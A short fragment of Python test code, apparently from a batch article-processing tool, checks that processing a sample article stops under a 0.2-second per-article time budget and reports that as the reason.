    work = batch.ArticleWork(seconds=0.2)
    with batch.budget_timer(0.2) as timed:
        work.timed = timed
        item, facts, cached = work(Article("a", "Hubei reported 3 cases.", None, "a.txt"))
    assert stopped == [True]
    assert facts is None and "per-article time budget" in item.reason
